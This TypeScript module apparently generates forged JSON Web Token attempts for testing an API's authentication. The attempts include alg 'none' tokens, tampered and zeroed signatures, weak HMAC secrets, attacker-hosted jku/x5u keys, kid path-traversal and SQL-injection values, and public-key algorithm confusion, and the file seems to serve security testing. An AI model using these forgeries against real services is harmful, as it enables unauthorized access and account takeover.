import { type JsonWebKey, randomBytes } from 'node:crypto';
import { type Attempt, bearer } from './attempt.ts';
import { encoded, hmac, jws, partsOf, publicKeyForms, type Stranger, strangerOf } from './jws.ts';
import type { Listener } from './listener.ts';

type Json = Readonly<Record<string, unknown>>;

/** A good token, which an attacker may have seen, and what it says. */
export interface Seen {
  readonly token: string;
  readonly header: Json;
  readonly claims: Json;
}

/** What somebody may send who has no key, but a token that was good once. */
export function forgeries(seen: Seen, thief: Stranger, listener: Listener): Attempt[] {
  return [
    ...withoutSignature(seen),
    ...alteredTokens(seen),
    ...otherKeys(seen),
    ...broughtKeys(seen, thief, listener),
    ...strangeKids(seen, thief),
    ...otherForms(seen.token),
    ...twoHeaders(seen.token),
  ];
}

/** Spellings of "none" (CVE-2015-9235 and its many returns), and other names for no algorithm. */
const NO_ALGORITHM: Readonly<Record<string, unknown>> = {
  'none-lower': 'none',
  'none-title': 'None',
  'none-upper': 'NONE',
  'none-mixed': 'nOnE',
  'none-blank': 'none ',
  'none-empty': '',
};

function withoutSignature({ token, header }: Seen): Attempt[] {
  const { head, body, end } = partsOf(token);
  const junk = [1, 2, 3].map(() => randomBytes(24).toString('base64url')).join('.');
  const none = encoded({ ...header, alg: 'none' });
  return [
    {
      ...bearer('empty', 'Bearer, and nothing behind it', 'signature', ''),
      authorization: ['Bearer'],
    },
    bearer('junk', 'three parts of random bytes', 'signature', junk),
    bearer('stripped', 'the good token without its signature', 'signature', `${head}.${body}.`),
    bearer('two-parts', 'the first two parts alone', 'signature', `${head}.${body}`),
    ...Object.entries(NO_ALGORITHM).map(([name, alg]) => {
      const text = `${encoded({ ...header, alg })}.${body}.`;
      return bearer(name, `alg ${JSON.stringify(alg)}, no signature`, 'algorithm', text);
    }),
    bearer('none-signed', 'alg "none" before the signature', 'algorithm', `${none}.${body}.${end}`),
  ];
}

function alteredTokens({ token, claims }: Seen): Attempt[] {
  const { head, body, end, bytes } = partsOf(token);
  const withSignature = (other: Buffer) => `${head}.${body}.${encoded(other)}`;
  const flipped = Buffer.from(bytes);
  flipped.writeUInt8(flipped.readUInt8(0) ^ 1, 0);
  const { exp } = claims;
  const longer = encoded({ ...claims, exp: (typeof exp === 'number' ? exp : 0) + 86_400 });
  const zeros = Buffer.alloc(bytes.length);
  const twice = withSignature(Buffer.concat([bytes, bytes]));
  return [
    bearer(
      'altered',
      'exp a day later under the old signature',
      'signature',
      `${head}.${longer}.${end}`,
    ),
    bearer('flipped', 'one bit of the signature altered', 'signature', withSignature(flipped)),
    bearer('zeros', 'a signature of zeros (CVE-2022-21449)', 'signature', withSignature(zeros)),
    bearer('doubled', 'the signature twice in its part', 'signature', twice),
    bearer('four-parts', 'the signature once more as a fourth part', 'form', `${token}.${end}`),
  ];
}

function otherKeys({ header, claims }: Seen): Attempt[] {
  const other = strangerOf(String(header['alg']));
  const nameless = { ...header, alg: other.algorithm, kid: undefined };
  const weak = { ...header, alg: 'HS256' };
  return [
    bearer('other-key', 'signed with another key', 'signature', jws(header, claims, other)),
    bearer(
      'other-key-no-kid',
      'signed with another key, no kid',
      'signature',
      jws(nameless, claims, other),
    ),
    bearer('empty-secret', 'HS256 with an empty secret', 'secret', hmac(weak, claims, '')),
    bearer('weak-secret', 'HS256 with the word "secret"', 'secret', hmac(weak, claims, 'secret')),
  ];
}

/** What is checked with a key of the sender's own, if the API lets it, or makes the API fetch something. */
function broughtKeys({ header, claims }: Seen, thief: Stranger, listener: Listener): Attempt[] {
  const kid = String(thief.jwk['kid']);
  const brought = (name: string, tried: string, head: Json, payload: Json = claims) =>
    bearer(
      name,
      tried,
      'key',
      jws({ ...header, alg: thief.algorithm, kid, ...head }, payload, thief),
      name === 'jwk' ? {} : { lures: true },
    );
  const at = (name: string) => listener.addressFor(name);
  const status = { status_list: { idx: 0, uri: at('status-address') } };
  return [
    brought('jwk', 'its own key in the header (jwk)', { jwk: thief.jwk }),
    brought('jku', 'the address of its own keys (jku)', { jku: at('jku') }),
    brought('x5u', 'the address of its own certificate (x5u)', { x5u: at('x5u') }),
    brought('kid-address', 'the address of its own keys as kid', { kid: at('kid-address') }),
    brought(
      'issuer-address',
      'an issuer of its own, with keys',
      {},
      { ...claims, iss: at('issuer-address') },
    ),
    brought('status-address', 'a status list of its own', header, { ...claims, status }),
  ];
}

function strangeKids({ header, claims }: Seen, thief: Stranger): Attempt[] {
  const chosen = 'chosen-by-the-attacker';
  const path = { ...header, alg: 'HS256', kid: '../../../../../../dev/null' };
  const sql = { ...header, alg: 'HS256', kid: `x' UNION SELECT '${chosen}' -- ` };
  const odd = jws({ ...header, alg: thief.algorithm, kid: { $ne: null } }, claims, thief);
  return [
    bearer('kid-path', 'kid is the path of an empty file', 'key', hmac(path, claims, '')),
    bearer('kid-sql', 'kid is SQL that selects a chosen secret', 'key', hmac(sql, claims, chosen)),
    bearer('kid-object', 'kid is an object', 'key', odd),
  ];
}

/** The good token in other words: whoever takes it has not been fooled, but whatever goes by its text has. */
function otherForms(token: string): Attempt[] {
  const { head, body, end } = partsOf(token);
  const flat = { protected: head, payload: body, signature: end };
  const general = { payload: body, signatures: [{ protected: head, signature: end }] };
  const loose = `${head}.${body}.${end.slice(0, 8)}!${end.slice(8)}`;
  return [
    bearer('json-flattened', 'as JSON (RFC 7515, section 7.2.2)', 'form', JSON.stringify(flat)),
    bearer('json-general', 'as JSON (RFC 7515, section 7.2.1)', 'form', JSON.stringify(general)),
    bearer('base64-junk', 'with a sign in it that is not base64url', 'form', loose),
    bearer('base64-padded', 'with padding behind it', 'form', `${token}==`),
  ];
}

function twoHeaders(token: string): Attempt[] {
  const [good, bad] = [`Bearer ${token}`, 'Bearer umbrella'];
  const both = (name: string, tried: string, authorization: string[]): Attempt => ({
    ...bearer(name, tried, 'headers', ''),
    authorization,
  });
  return [
    both('two-headers-good-first', 'two Authorization headers, the first is good', [good, bad]),
    both('two-headers-good-last', 'two Authorization headers, the last is good', [bad, good]),
  ];
}

/** Forms of a public key in which libraries have taken it for a secret, or a damaged setting has made it one. */
const FORMS: Readonly<Record<string, string>> = {
  'hs-pem': 'PEM',
  'hs-pem-trimmed': 'PEM without its last line feed',
  'hs-pem-space': 'PEM with a leading space',
  'hs-pem-escaped': String.raw`PEM with a literal \n`,
  'hs-pem-quoted': 'PEM in quotes',
  'hs-pem-pkcs1': 'PEM (PKCS #1)',
  'hs-jwk': 'JWK',
};

/** Algorithm confusion: what everybody can read, the public key, as if it were a shared secret. */
export function confusions({ header, claims }: Seen, published: JsonWebKey): Attempt[] {
  const forms = publicKeyForms(published);
  const given = { ...header, alg: 'HS256' };
  return Object.entries(FORMS).flatMap(([name, form]) => {
    const secret = forms[form];
    if (secret === undefined) return []; // PKCS #1 is for RSA
    const tried = `HS256 with the public key as ${form}`;
    return [bearer(name, tried, 'confusion', hmac(given, claims, secret))];
  });
}
